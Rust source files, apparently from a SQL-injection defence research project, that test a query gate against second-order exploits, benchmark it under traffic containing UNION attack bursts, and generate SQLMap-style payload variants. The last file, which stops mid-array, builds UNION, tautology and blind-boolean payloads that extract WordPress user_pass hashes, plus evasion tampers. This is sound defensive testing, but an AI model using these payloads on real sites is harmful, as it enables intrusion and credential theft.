pub fn verify_second_order_exploit(server: &mut Server, case: &SecondOrderCase) -> bool {
    let plant = server.handle(&case.exploit_plant_request());
    let trigger = server.handle(&case.trigger_request());
    !plant.blocked && trigger.body.contains(&case.leak_marker)
}

/// Runs the benign round trip unprotected and reports whether the stored
/// data came back intact (the expected echo, no SQL error, no leak).
pub fn verify_benign_round_trip(server: &mut Server, case: &SecondOrderCase) -> bool {
    let plant = server.handle(&case.benign_plant_request());
    let trigger = server.handle(&case.trigger_request());
    !plant.blocked
        && plant.sql_error.is_none()
        && trigger.sql_error.is_none()
        && trigger.body.contains(&case.benign_echo)
        && !trigger.body.contains(&case.leak_marker)
}

/// The gated two-phase outcome of one case.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TwoPhaseOutcome {
    /// The plant request was allowed through (every query executed).
    pub plant_allowed: bool,
    /// Some query of the trigger request was denied.
    pub trigger_denied: bool,
    /// The trigger response leaked the marker anyway.
    pub leaked: bool,
}

/// Runs the two-phase exploit behind a gate: plant, then trigger, both
/// through `factory`. A defeated exploit has `trigger_denied && !leaked`.
pub fn run_two_phase_gated(
    server: &mut Server,
    case: &SecondOrderCase,
    factory: &dyn GateFactory,
) -> TwoPhaseOutcome {
    let plant = server.handle_with(&case.exploit_plant_request(), factory);
    let trigger = server.handle_with(&case.trigger_request(), factory);
    TwoPhaseOutcome {
        plant_allowed: !plant.blocked && plant.executed == plant.queries.len(),
        trigger_denied: trigger.blocked || trigger.executed < trigger.queries.len(),
        leaked: trigger.body.contains(&case.leak_marker),
    }
}

#[cfg(test)]
mod proptests {
    use super::*;
    use crate::harden::harden_lab;
    use crate::Lab;
    use joza_core::{Joza, JozaConfig};
    use proptest::prelude::*;
    use std::sync::{Mutex, OnceLock};

    /// Shared rig (assembly is expensive; `reset_database` restores all
    /// mutable state between proptest bodies).
    struct Rig {
        so: SecondOrderLab,
        /// Fully-loaded persistence-aware gate: query models + fixpoint
        /// taint-free routes + dirty cells.
        gate: Joza,
        /// Hardened twin of the extended app, second-order tables seeded.
        hardened: Lab,
        /// Routes the hardening pass rewrote.
        rewritten: Vec<String>,
    }

    fn rig() -> &'static Mutex<Rig> {
        static RIG: OnceLock<Mutex<Rig>> = OnceLock::new();
        RIG.get_or_init(|| {
            let so = build_second_order_lab();
            let report = joza_sast::analyze_store_flow(&so.lab.server.app);
            let gate = Joza::installer(&so.lab.server.app, JozaConfig::optimized())
                .query_models(joza_sast::app_query_models(&so.lab.server.app))
                .taint_free_routes(report.taint_free_routes())
                .dirty_cells(report.dirty_cells())
                .build();
            let (mut hardened, harden_report) = harden_lab(&so.lab);
            setup_tables(&mut hardened.server.db);
            let rewritten = harden_report.rewritten_routes();
            Mutex::new(Rig { so, gate, hardened, rewritten })
        })
    }

    /// Deterministic case/whitespace mutation: flips alphabetic case and
    /// doubles spaces per mask bit. SQL keywords are case-insensitive and
    /// whitespace-elastic, so a mutated exploit stays an exploit (or at
    /// worst degrades to foreign text) — it never becomes app vocabulary.
    fn mutate(payload: &str, mask: u8) -> String {
        let mut out = String::new();
        for (i, ch) in payload.chars().enumerate() {
            let bit = (mask >> (i % 8)) & 1 == 1;
            match ch {
                ' ' if bit => out.push_str("  "),
                c if c.is_ascii_alphabetic() && bit => out.push(c.to_ascii_uppercase()),
                c if c.is_ascii_alphabetic() => out.push(c.to_ascii_lowercase()),
                c => out.push(c),
            }
        }
        out
    }

    /// The payload-carrying parameter of a case's exploit plant: the one
    /// whose value differs from the benign plant.
    fn mutate_plant(case: &mut SecondOrderCase, mask: u8) {
        let benign = case.benign_plant.clone();
        for (k, v) in case.exploit_plant.iter_mut() {
            let unchanged = benign.iter().any(|(bk, bv)| bk == k && bv == v);
            if !unchanged {
                *v = mutate(v, mask);
            }
        }
    }

    proptest! {
        /// However the frozen two-phase payloads are re-cased or
        /// re-spaced, the fully-loaded gate never leaks, and the trigger
        /// request never rides the model fast path — the stored payload
        /// always breaks the trigger's statement skeleton.
        #[test]
        fn two_phase_exploits_never_accepted_by_model_fast_path(
            idx in 0usize..4,
            mask in 0u8..255,
            evasive in any::<bool>(),
        ) {
            let mut rig = rig().lock().unwrap();
            let rig = &mut *rig;
            let base = rig.so.cases[idx].clone();
            let mut case = if evasive { base.evasive_variant() } else { base };
            mutate_plant(&mut case, mask);

            rig.so.reset_database();
            let plant = rig.so.lab.server.handle_with(&case.exploit_plant_request(), &rig.gate);
            prop_assert!(!plant.blocked, "{} plant blocked", case.class);
            let before = rig.gate.stats();
            let trigger = rig.so.lab.server.handle_with(&case.trigger_request(), &rig.gate);
            let after = rig.gate.stats();
            prop_assert!(
                !trigger.body.contains(&case.leak_marker),
                "{} leaked through the gate (mask {mask:#x})",
                case.class
            );
            prop_assert!(
                trigger.blocked || trigger.executed < trigger.queries.len(),
                "{} trigger fully accepted (mask {mask:#x})",
                case.class
            );
            // The trigger's constant load query may legitimately ride the
            // model fast path; the payload-carrying sink query never can —
            // the stored bytes break its statement skeleton.
            prop_assert!(
                after.model_fast_hits - before.model_fast_hits < trigger.queries.len() as u64,
                "{} every trigger query was model-fast-accepted (mask {:#x})",
                case.class, mask
            );
        }

        /// Benign stored data round-trips bit-identically through the
        /// hardened (prepared-statement) routes: whatever the original
        /// app handles cleanly, the rewritten app must answer with the
        /// same plant and trigger bytes.
        #[test]
        fn benign_round_trips_are_bit_identical_through_hardened_routes(
            value in "[a-zA-Z0-9 ]{0,12}",
            idx in 0usize..4,
        ) {
            let mut rig = rig().lock().unwrap();
            let rig = &mut *rig;
            let case = rig.so.cases[idx].clone();
            if !rig.rewritten.contains(&case.plant_route)
                || !rig.rewritten.contains(&case.trigger_route)
            {
                continue; // route deliberately skipped by the rewriter
            }
            let mut benign = case.clone();
            mutate_plant(&mut benign, 0);
            for (k, v) in benign.exploit_plant.iter_mut() {
                let unchanged = case.benign_plant.iter().any(|(bk, bv)| bk == k && bv == v);
                if !unchanged {
                    *v = value.clone();
                }
            }

            // Bit-identity is owed on inputs the original handles cleanly.
            rig.so.reset_database();
            let plant_a = rig.so.lab.server.handle(&benign.exploit_plant_request());
            let trigger_a = rig.so.lab.server.handle(&benign.trigger_request());
            if plant_a.sql_error.is_some() || trigger_a.sql_error.is_some() {
                continue;
            }

            rig.hardened.reset_database();
            setup_tables(&mut rig.hardened.server.db);
            let plant_b = rig.hardened.server.handle(&benign.exploit_plant_request());
            let trigger_b = rig.hardened.server.handle(&benign.trigger_request());
            prop_assert_eq!(
                &plant_a.body, &plant_b.body,
                "{} plant diverged for {:?}", case.class, value
            );
            prop_assert_eq!(
                &trigger_a.body, &trigger_b.body,
                "{} trigger diverged for {:?}", case.class, value
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn case_routes_are_routable_and_tables_seeded() {
        let so = build_second_order_lab();
        for case in &so.cases {
            assert!(so.lab.server.app.plugin(&case.plant_route).is_some(), "{}", case.plant_route);
            assert!(
                so.lab.server.app.plugin(&case.trigger_route).is_some(),
                "{}",
                case.trigger_route
            );
            assert!(so.lab.server.db.table(&case.cell.0).is_some(), "{}", case.cell.0);
        }
        assert_eq!(so.cases.len(), 4);
    }

    #[test]
    fn all_two_phase_exploits_work_unprotected() {
        let mut so = build_second_order_lab();
        for case in so.cases.clone() {
            so.reset_database();
            assert!(
                verify_second_order_exploit(&mut so.lab.server, &case),
                "{} exploit failed unprotected",
                case.class
            );
        }
    }

    #[test]
    fn all_benign_round_trips_are_clean() {
        let mut so = build_second_order_lab();
        for case in so.cases.clone() {
            so.reset_database();
            assert!(
                verify_benign_round_trip(&mut so.lab.server, &case),
                "{} benign round trip broken",
                case.class
            );
        }
    }

    #[test]
    fn all_evasive_variants_work_unprotected() {
        let mut so = build_second_order_lab();
        for case in so.cases.clone() {
            so.reset_database();
            assert!(
                verify_second_order_exploit(&mut so.lab.server, &case.evasive_variant()),
                "{} evasive variant failed unprotected",
                case.class
            );
        }
    }

    #[test]
    fn evasive_variants_defeat_first_order_inference_but_not_db_capture() {
        use joza_core::{Joza, JozaConfig};
        let mut so = build_second_order_lab();
        let report = joza_sast::analyze_store_flow(&so.lab.server.app);
        let first_order = Joza::installer(&so.lab.server.app, JozaConfig::optimized()).build();
        let persistence_aware = Joza::installer(&so.lab.server.app, JozaConfig::optimized())
            .taint_free_routes(report.taint_free_routes())
            .dirty_cells(report.dirty_cells())
            .build();
        for case in so.cases.clone() {
            let evasive = case.evasive_variant();
            // First-order inference sees only app-vocabulary fragments in
            // the trigger query and no matching request input: the attack
            // goes through.
            so.reset_database();
            let miss = run_two_phase_gated(&mut so.lab.server, &evasive, &first_order);
            assert!(miss.plant_allowed, "{} evasive plant blocked first-order", case.class);
            assert!(
                !miss.trigger_denied && miss.leaked,
                "{} evasive variant no longer evades first-order inference",
                case.class
            );
            // DB-sourced input capture hands the stored payload to NTI
            // verbatim: the trigger is denied and nothing leaks.
            so.reset_database();
            let hit = run_two_phase_gated(&mut so.lab.server, &evasive, &persistence_aware);
            assert!(hit.plant_allowed, "{} evasive plant blocked", case.class);
            assert!(
                hit.trigger_denied && !hit.leaked,
                "{} evasive variant not defeated by db capture",
                case.class
            );
        }
    }

    #[test]
    fn base_lab_counts_stay_pinned() {
        let so = build_second_order_lab();
        assert_eq!(so.lab.plugins.len(), 50);
        assert_eq!(so.lab.cms_cases.len(), 3);
    }
}
