//! Live-traffic serving over the batch-first gate API.
//!
//! [`serve_parallel`](crate::serve::serve_parallel) measures the engine
//! *through* the simulated PHP application — realistic, but the
//! interpreter dominates the profile, so it cannot isolate the serving
//! seam the API redesign targets. This module drives the gate directly
//! the way a production reverse-proxy tier would: worker threads open a
//! [`JozaSession`] per request and push the request's whole query batch
//! through [`JozaSession::check_batch`], against a synthetic route
//! population with
//!
//! * **Zipf-distributed route popularity** — a few hot endpoints, a long
//!   cold tail, like real web traffic;
//! * **cache-hostile query text** — every check carries a globally unique
//!   literal, so no PTI query-cache hit ever masks a round trip;
//! * **attack bursts** — short runs of exploit requests (UNION-based,
//!   SQLMap-style) interleaved with the benign baseline;
//! * **mid-run deploys** — [`serve_live_deploying`] swaps model releases
//!   via [`Joza::deploy`] while workers are serving, which is exactly the
//!   hot-swap path [`JozaSession`]'s pinned deployment exists for.
//!
//! [`JozaSession`]: joza_core::JozaSession
//! [`JozaSession::check_batch`]: joza_core::JozaSession::check_batch

use joza_core::{Joza, JozaConfig, QueryCheck, QueryModelIndex, RouteModel, Verdict};
use joza_sqlparse::template::{QueryTemplate, TemplatePart};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Barrier;
use std::time::{Duration, Instant};

/// One synthetic endpoint of the live testbed: a route slug plus the
/// query shape its (imagined) handler emits around one request value.
#[derive(Debug, Clone)]
pub struct LiveRoute {
    /// Route slug, e.g. `live-07`.
    pub slug: String,
    /// Query text before the request-derived value.
    pub prefix: String,
    /// Query text after the request-derived value.
    pub suffix: String,
}

/// The synthetic route population: routes, the PTI fragment vocabulary
/// their handlers would contribute, and the complete static query model
/// for every route (for deploy scenarios; engines may start without it).
#[derive(Debug, Clone)]
pub struct LiveTestbed {
    /// The routes, index-addressed by [`LiveRequest::route`].
    pub routes: Vec<LiveRoute>,
    /// Fragment vocabulary covering every route's literals.
    pub fragments: Vec<String>,
    /// A complete [`RouteModel`] per route (`prefix ⟨hole⟩ suffix`).
    pub models: QueryModelIndex,
}

/// Builds a testbed of `n` routes. Each route queries its own table, so
/// route identity is visible in the query text, and each has a complete
/// one-hole query model.
pub fn live_testbed(n: usize) -> LiveTestbed {
    assert!(n > 0, "live_testbed needs at least one route");
    let mut routes = Vec::with_capacity(n);
    let mut fragments = vec!["k".to_string(), "v".to_string()];
    let mut models = QueryModelIndex::new();
    for i in 0..n {
        let slug = format!("live-{i:02}");
        let prefix = format!("SELECT v FROM live_tab_{i} WHERE k=");
        let suffix = " LIMIT 10".to_string();
        fragments.push(prefix.clone());
        fragments.push(suffix.clone());
        let template = QueryTemplate {
            parts: vec![
                TemplatePart::Lit(prefix.clone()),
                TemplatePart::Hole,
                TemplatePart::Lit(suffix.clone()),
            ],
        };
        models.insert(&slug, RouteModel::build(&[Some(vec![template])]));
        routes.push(LiveRoute { slug, prefix, suffix });
    }
    LiveTestbed { routes, fragments, models }
}

/// Builds the engine for a testbed: fragment vocabulary, the testbed's
/// route universe as `known_routes` (so deploys are validated), and —
/// when `with_models` — the static query models pre-installed.
pub fn live_engine(testbed: &LiveTestbed, config: JozaConfig, with_models: bool) -> Joza {
    let mut b = Joza::builder()
        .fragments(testbed.fragments.iter())
        .config(config)
        .known_routes(testbed.routes.iter().map(|r| r.slug.as_str()));
    if with_models {
        b = b.query_models(testbed.models.clone());
    }
    b.build()
}

/// A Zipf(s) sampler over ranks `0..n`: rank `r` is drawn with
/// probability proportional to `1 / (r + 1)^s`.
#[derive(Debug, Clone)]
pub struct ZipfSampler {
    cdf: Vec<f64>,
}

impl ZipfSampler {
    /// Precomputes the distribution over `n` ranks with exponent `s`.
    pub fn new(n: usize, s: f64) -> ZipfSampler {
        assert!(n > 0, "ZipfSampler needs at least one rank");
        let mut cdf: Vec<f64> = Vec::with_capacity(n);
        let mut total = 0.0;
        for rank in 0..n {
            total += 1.0 / ((rank + 1) as f64).powf(s);
            cdf.push(total);
        }
        for c in &mut cdf {
            *c /= total;
        }
        ZipfSampler { cdf }
    }

    /// Draws one rank.
    pub fn sample<R: Rng>(&self, rng: &mut R) -> usize {
        let u = rng.next_u64() as f64 / u64::MAX as f64;
        self.cdf.partition_point(|c| *c < u).min(self.cdf.len() - 1)
    }
}

/// Workload shape for [`live_corpus`].
#[derive(Debug, Clone)]
pub struct LiveWorkload {
    /// Number of requests.
    pub requests: usize,
    /// Queries per request (the `check_batch` size).
    pub batch: usize,
    /// Zipf exponent for route popularity (higher = more skew).
    pub zipf_exponent: f64,
    /// Every `burst_period` requests end in an attack burst (`0` disables
    /// attacks entirely).
    pub burst_period: usize,
    /// Length of each attack burst, in consecutive requests.
    pub burst_len: usize,
    /// RNG seed for route sampling.
    pub seed: u64,
    /// First unique literal id. Give each pass a disjoint id range and no
    /// query text ever repeats — the PTI query cache never hits.
    pub id_base: u64,
}

impl Default for LiveWorkload {
    fn default() -> LiveWorkload {
        LiveWorkload {
            requests: 64,
            batch: 4,
            zipf_exponent: 1.1,
            burst_period: 16,
            burst_len: 3,
            seed: 0x4a5a,
            id_base: 0,
        }
    }
}

/// One live request: a route, an attack flag, and the query batch its
/// handler emits. Each query carries its own raw input (the value the
/// "request" supplied for it) via [`QueryCheck::with_input`].
#[derive(Debug, Clone)]
pub struct LiveRequest {
    /// Index into [`LiveTestbed::routes`].
    pub route: usize,
    /// Whether every query in the batch is an exploit (ground truth).
    pub attack: bool,
    /// The batch passed to [`joza_core::JozaSession::check_batch`].
    pub checks: Vec<QueryCheck>,
}

/// Generates a deterministic request corpus: Zipf-sampled routes, benign
/// baseline traffic with unique per-query literals, and attack bursts in
/// the last [`LiveWorkload::burst_len`] requests of every
/// [`LiveWorkload::burst_period`]-sized window.
pub fn live_corpus(testbed: &LiveTestbed, w: &LiveWorkload) -> Vec<LiveRequest> {
    assert!(w.batch > 0, "live_corpus needs at least one query per request");
    let zipf = ZipfSampler::new(testbed.routes.len(), w.zipf_exponent);
    let mut rng = StdRng::seed_from_u64(w.seed);
    let mut next_id = w.id_base;
    (0..w.requests)
        .map(|i| {
            let attack = w.burst_period > 0
                && i % w.burst_period >= w.burst_period.saturating_sub(w.burst_len);
            let route = zipf.sample(&mut rng);
            let r = &testbed.routes[route];
            let checks = (0..w.batch)
                .map(|_| {
                    let id = next_id;
                    next_id += 1;
                    let value =
                        if attack { format!("-1 UNION SELECT {id}") } else { format!("{id}") };
                    QueryCheck::new(format!("{}{value}{}", r.prefix, r.suffix)).with_input(value)
                })
                .collect();
            LiveRequest { route, attack, checks }
        })
        .collect()
}

/// Outcome of one live serving run.
#[derive(Debug)]
pub struct LiveReport {
    /// Per-request verdict batches, in corpus order.
    pub verdicts: Vec<Vec<Verdict>>,
    /// Wall-clock of the serving phase (barrier release to last join).
    pub wall: Duration,
    /// Per-request serving latency (session open + batch check), in
    /// corpus order.
    pub request_latencies: Vec<Duration>,
    /// Highest deployment generation each worker observed on its
    /// sessions.
    pub worker_generations: Vec<u64>,
    /// Wall-clock of the mid-run deploy action, when one was scheduled.
    pub deploy_wall: Option<Duration>,
}

impl LiveReport {
    /// Total queries checked.
    pub fn queries(&self) -> usize {
        self.verdicts.iter().map(Vec::len).sum()
    }

    /// Requests served per wall-clock second.
    pub fn requests_per_sec(&self) -> f64 {
        if self.wall.is_zero() {
            return 0.0;
        }
        self.verdicts.len() as f64 / self.wall.as_secs_f64()
    }

    /// Queries checked per wall-clock second.
    pub fn queries_per_sec(&self) -> f64 {
        if self.wall.is_zero() {
            return 0.0;
        }
        self.queries() as f64 / self.wall.as_secs_f64()
    }

    /// The `p`-th percentile (0.0–1.0) of per-request latency.
    pub fn latency_percentile(&self, p: f64) -> Duration {
        if self.request_latencies.is_empty() {
            return Duration::ZERO;
        }
        let mut sorted = self.request_latencies.clone();
        sorted.sort();
        let idx = ((sorted.len() - 1) as f64 * p).round() as usize;
        sorted[idx]
    }
}

/// Serves `corpus` through `joza` from `threads` workers (no mid-run
/// deploy). See [`serve_live_deploying`].
pub fn serve_live(
    joza: &Joza,
    testbed: &LiveTestbed,
    corpus: &[LiveRequest],
    threads: usize,
) -> LiveReport {
    serve_live_deploying(joza, testbed, corpus, threads, corpus.len() + 1, |_| {})
}

/// Serves `corpus` through `joza` from `threads` worker threads, firing
/// `deploy` from a dedicated deployer thread once `deploy_after` requests
/// have been served (skipped entirely when `deploy_after > corpus.len()`).
///
/// Workers take the requests at indices `w, w + threads, …`; each request
/// opens a session on its route ([`Joza::session_for`] — pinning whatever
/// deployment is live at that instant) and checks its whole batch with
/// one [`joza_core::JozaSession::check_batch`] call. Verdicts and
/// latencies come back in corpus order regardless of which worker served
/// them; with `threads == 1` the run is a plain sequential loop, which is
/// what makes single- and multi-threaded verdicts directly comparable.
///
/// # Panics
///
/// Panics if `threads` is zero or a worker thread panics.
pub fn serve_live_deploying<F>(
    joza: &Joza,
    testbed: &LiveTestbed,
    corpus: &[LiveRequest],
    threads: usize,
    deploy_after: usize,
    deploy: F,
) -> LiveReport
where
    F: FnOnce(&Joza) + Send,
{
    assert!(threads > 0, "serve_live needs at least one worker");
    let barrier = Barrier::new(threads + 1);
    let served = AtomicUsize::new(0);
    let done = AtomicBool::new(false);
    let mut indexed: Vec<(usize, Vec<Verdict>, Duration)> = Vec::with_capacity(corpus.len());
    let mut worker_generations = Vec::with_capacity(threads);
    let mut wall = Duration::ZERO;
    let mut deploy_wall = None;
    std::thread::scope(|s| {
        let deployer = (deploy_after <= corpus.len()).then(|| {
            let served = &served;
            let done = &done;
            s.spawn(move || {
                while served.load(Ordering::Relaxed) < deploy_after && !done.load(Ordering::Relaxed)
                {
                    std::thread::sleep(Duration::from_micros(100));
                }
                let started = Instant::now();
                deploy(joza);
                started.elapsed()
            })
        });
        let handles: Vec<_> = (0..threads)
            .map(|w| {
                let barrier = &barrier;
                let served = &served;
                s.spawn(move || {
                    let mut out = Vec::with_capacity(corpus.len() / threads + 1);
                    let mut max_generation = 0u64;
                    barrier.wait();
                    for (i, req) in corpus.iter().enumerate().skip(w).step_by(threads) {
                        let started = Instant::now();
                        let session = joza.session_for(&testbed.routes[req.route].slug);
                        let verdicts = session.check_batch(&req.checks);
                        let latency = started.elapsed();
                        max_generation = max_generation.max(session.generation());
                        served.fetch_add(1, Ordering::Relaxed);
                        out.push((i, verdicts, latency));
                    }
                    (out, max_generation)
                })
            })
            .collect();
        barrier.wait();
        let started = Instant::now();
        let joined: Vec<_> = handles.into_iter().map(|h| h.join()).collect();
        wall = started.elapsed();
        // Release the deployer before unwrapping worker results, so a
        // worker panic cannot leave it spinning under thread::scope's
        // implicit join.
        done.store(true, Ordering::Relaxed);
        deploy_wall = deployer.map(|h| h.join().expect("serve_live deployer panicked"));
        for j in joined {
            let (out, generation) = j.expect("serve_live worker panicked");
            indexed.extend(out);
            worker_generations.push(generation);
        }
    });
    indexed.sort_by_key(|(i, _, _)| *i);
    let mut verdicts = Vec::with_capacity(indexed.len());
    let mut request_latencies = Vec::with_capacity(indexed.len());
    for (_, v, l) in indexed {
        verdicts.push(v);
        request_latencies.push(l);
    }
    LiveReport { verdicts, wall, request_latencies, worker_generations, deploy_wall }
}

#[cfg(test)]
mod tests {
    use super::*;
    use joza_core::{CheckPath, ModelUpdate};

    fn engine(testbed: &LiveTestbed, with_models: bool) -> Joza {
        live_engine(testbed, JozaConfig::optimized(), with_models)
    }

    #[test]
    fn zipf_sampler_is_skewed_and_in_range() {
        let zipf = ZipfSampler::new(8, 1.1);
        let mut rng = StdRng::seed_from_u64(7);
        let mut counts = [0usize; 8];
        for _ in 0..2000 {
            counts[zipf.sample(&mut rng)] += 1;
        }
        assert!(counts[0] > counts[7] * 2, "rank 0 must dominate the tail: {counts:?}");
        assert!(counts.iter().all(|&c| c > 0), "every rank should appear: {counts:?}");
    }

    #[test]
    fn corpus_is_deterministic_bursty_and_cache_hostile() {
        let testbed = live_testbed(6);
        let w = LiveWorkload { requests: 48, ..LiveWorkload::default() };
        let a = live_corpus(&testbed, &w);
        let b = live_corpus(&testbed, &w);
        assert_eq!(a.len(), 48);
        for (x, y) in a.iter().zip(&b) {
            assert_eq!(x.route, y.route);
            assert_eq!(x.attack, y.attack);
            assert_eq!(x.checks, y.checks);
        }
        // Attack bursts: the last `burst_len` requests of each window.
        for (i, req) in a.iter().enumerate() {
            assert_eq!(req.attack, i % 16 >= 13, "burst placement at request {i}");
        }
        // Cache hostility: no query text ever repeats, within or across
        // id ranges.
        let shifted = live_corpus(&testbed, &LiveWorkload { id_base: 10_000, ..w });
        let mut texts: Vec<&str> = a
            .iter()
            .chain(&shifted)
            .flat_map(|r| r.checks.iter().map(|c| c.query.as_str()))
            .collect();
        let total = texts.len();
        texts.sort_unstable();
        texts.dedup();
        assert_eq!(texts.len(), total, "duplicate query text would warm the PTI cache");
    }

    #[test]
    fn live_verdicts_match_ground_truth_and_counters_balance() {
        let testbed = live_testbed(4);
        let joza = engine(&testbed, false);
        let corpus =
            live_corpus(&testbed, &LiveWorkload { requests: 32, batch: 3, ..Default::default() });
        let report = serve_live(&joza, &testbed, &corpus, 3);
        assert_eq!(report.verdicts.len(), corpus.len());
        for (req, batch) in corpus.iter().zip(&report.verdicts) {
            assert_eq!(batch.len(), req.checks.len());
            for v in batch {
                assert_eq!(v.is_safe(), !req.attack, "verdict vs ground truth");
                assert_eq!(v.trace().generation(), 0);
            }
        }
        let stats = joza.stats();
        assert_eq!(stats.queries as usize, report.queries());
        assert_eq!(stats.model_fast_hits + stats.static_hits + stats.full_checks, stats.queries);
    }

    #[test]
    fn parallel_verdicts_bit_identical_to_single_thread() {
        let testbed = live_testbed(5);
        let corpus = live_corpus(&testbed, &LiveWorkload::default());
        let single = serve_live(&engine(&testbed, false), &testbed, &corpus, 1);
        let multi = serve_live(&engine(&testbed, false), &testbed, &corpus, 4);
        assert_eq!(single.verdicts, multi.verdicts);
        assert_eq!(single.queries(), multi.queries());
    }

    #[test]
    fn mid_run_deploy_lands_and_new_sessions_ride_the_model_fast_path() {
        let testbed = live_testbed(3);
        let joza = engine(&testbed, false);
        let corpus = live_corpus(
            &testbed,
            &LiveWorkload { requests: 24, burst_period: 0, ..Default::default() },
        );
        let report = serve_live_deploying(&joza, &testbed, &corpus, 2, corpus.len() / 2, |j| {
            j.deploy(ModelUpdate::new().query_models(testbed.models.clone()))
                .expect("mid-run deploy");
        });
        assert!(report.deploy_wall.is_some());
        assert_eq!(joza.generation(), 1);
        // Every check of the run stayed internally consistent (benign
        // traffic, whatever generation served it)...
        for batch in &report.verdicts {
            for v in batch {
                assert!(v.is_safe());
            }
        }
        assert!(report.worker_generations.iter().all(|&g| g <= 1));
        // ...no query was dropped or double-counted across the swap...
        assert_eq!(joza.stats().queries as usize, report.queries());
        // ...and sessions opened after the run see the new release.
        let v = joza
            .session_for(&testbed.routes[0].slug)
            .check(&format!("{}1{}", testbed.routes[0].prefix, testbed.routes[0].suffix));
        assert_eq!(v.path(), CheckPath::ModelFastPath);
        assert_eq!(v.trace().generation(), 1);
    }
}
