//! SQLMap-style payload-variant generation (§V-A, Table II).
//!
//! "We used a powerful penetration tool (SQLMap) on four of the 50
//! plugins. … On average, SQLMap generated 40 valid attack payloads for
//! each plugin." This module reproduces that behaviour the way SQLMap
//! itself works: enumerate candidate payloads from technique templates and
//! boundary/tamper combinations, fire each at the *unprotected*
//! application, and keep only those whose attack effect is observable.

use crate::corpus::{AttackType, Exploit, VulnPlugin};
use crate::verify::exploit_effect_observed;
use joza_webapp::server::Server;

/// Generates candidate exploit variants for a plugin (unvalidated).
pub fn candidate_payloads(plugin: &VulnPlugin) -> Vec<Exploit> {
    let mut out = Vec::new();
    match (&plugin.attack_type, &plugin.exploit) {
        (AttackType::UnionBased, Exploit::Leak { payload, leak_marker }) => {
            for variant in union_variants(payload) {
                out.push(Exploit::Leak { payload: variant, leak_marker: leak_marker.clone() });
            }
        }
        (AttackType::Tautology, Exploit::Leak { payload, leak_marker }) => {
            for variant in tautology_variants(payload, plugin) {
                out.push(Exploit::Leak { payload: variant, leak_marker: leak_marker.clone() });
            }
        }
        (_, Exploit::BooleanDiff { true_payload, false_payload }) => {
            for (t, f) in boolean_variants(true_payload, false_payload, plugin) {
                out.push(Exploit::BooleanDiff { true_payload: t, false_payload: f });
            }
        }
        (_, Exploit::TimingDiff { slow_payload, fast_payload, min_delay_ms }) => {
            for (s, f) in timing_variants(slow_payload, fast_payload) {
                out.push(Exploit::TimingDiff {
                    slow_payload: s,
                    fast_payload: f,
                    min_delay_ms: *min_delay_ms,
                });
            }
        }
        _ => out.push(plugin.exploit.clone()),
    }
    dedup(out)
}

/// Generates up to `target` *valid* payload variants: candidates whose
/// attack effect is observable against the unprotected server.
pub fn valid_payloads(server: &mut Server, plugin: &VulnPlugin, target: usize) -> Vec<Exploit> {
    let mut out = Vec::new();
    for cand in candidate_payloads(plugin) {
        if exploit_effect_observed(server, plugin, &cand, None) {
            out.push(cand);
            if out.len() >= target {
                break;
            }
        }
    }
    out
}

/// Textual tampers shared by all techniques, mirroring SQLMap's tamper
/// scripts (case mangling, whitespace alternatives, comment suffixes).
fn tampers(payload: &str) -> Vec<String> {
    let mut out = vec![payload.to_string()];
    out.push(payload.to_lowercase());
    out.push(mixed_case(payload));
    out.push(payload.replace(' ', "\t"));
    out.push(payload.replace("UNION SELECT", "UNION ALL SELECT"));
    out.push(payload.replace("-- -", "#"));
    out.push(format!("{payload} "));
    out
}

fn mixed_case(s: &str) -> String {
    s.chars()
        .enumerate()
        .map(|(i, c)| if i % 2 == 0 { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() })
        .collect()
}

fn union_variants(primary: &str) -> Vec<String> {
    let mut out = Vec::new();
    // Column-content variants: swap the leaked column expressions.
    let bases = vec![
        primary.to_string(),
        primary.replace("user_login, user_pass", "user_pass, user_login"),
        primary.replace("user_pass", "CONCAT(user_login, 0x3a, user_pass)"),
        primary.replace("user_pass", "CONCAT_WS(CHAR(58), user_login, user_pass)"),
        primary.replace("-1", "0"),
        primary.replace("-1", "999999"),
        primary.replace("FROM wp_users", "FROM wp_users WHERE ID=1"),
        primary.replace("FROM wp_users", "FROM wp_users ORDER BY ID LIMIT 1"),
        primary.replace("FROM wp_users", "FROM wp_users LIMIT 1"),
    ];
    for b in bases {
        out.extend(tampers(&b));
    }
    out
}

fn tautology_variants(primary: &str, plugin: &VulnPlugin) -> Vec<String> {
    let mut out = Vec::new();
    let is_b64 = plugin.param == "track" && plugin.benign_value.ends_with('=');
    // The primary payload is already in delivery form (possibly encoded).
    out.push(primary.to_string());
    let raw_bases = vec![
        "1 OR 1=1".to_string(),
        "1 OR 2>1".to_string(),
        "1 OR 1=1-- -".to_string(),
        "1 OR 3 BETWEEN 1 AND 5".to_string(),
        "1 OR 1 LIKE 1".to_string(),
        "0 OR NOT 1=2".to_string(),
        "1 OR 1=1 OR 1=1".to_string(),
        "9 OR 9=9".to_string(),
    ];
    for b in raw_bases {
        for t in tampers(&b) {
            if is_b64 {
                out.push(joza_phpsim::builtins::base64_encode(t.as_bytes()));
            } else {
                out.push(t);
            }
        }
    }
    out
}

fn boolean_variants(true_p: &str, false_p: &str, plugin: &VulnPlugin) -> Vec<(String, String)> {
    let mut out = vec![(true_p.to_string(), false_p.to_string())];
    let quoted = plugin.param == "name";
    if quoted {
        // Quoted-context pairs keep the original breakout structure and
        // vary only the predicate.
        for (t, f) in [(">32", ">200"), (">=1", ">=250"), ("<200", "<1")] {
            out.push((true_p.replace(">32", t), false_p.replace(">200", f)));
        }
    } else {
        let benign = &plugin.benign_value;
        let pairs = [
            ("AND 1=1", "AND 1=2"),
            ("AND 2>1", "AND 2<1"),
            ("AND 5 BETWEEN 1 AND 9", "AND 5 BETWEEN 6 AND 9"),
            ("AND 1 LIKE 1", "AND 1 LIKE 2"),
            ("AND 3=3", "AND 3=4"),
            ("AND NOT 1=2", "AND NOT 1=1"),
            ("AND (SELECT COUNT(*) FROM wp_users)>0", "AND (SELECT COUNT(*) FROM wp_users)>999"),
            (
                "AND ASCII(SUBSTRING((SELECT user_pass FROM wp_users WHERE ID=1),1,1))>32",
                "AND ASCII(SUBSTRING((SELECT user_pass FROM wp_users WHERE ID=1),1,1))>250",
            ),
            (
                "AND LENGTH((SELECT user_pass FROM wp_users WHERE ID=1))>3",
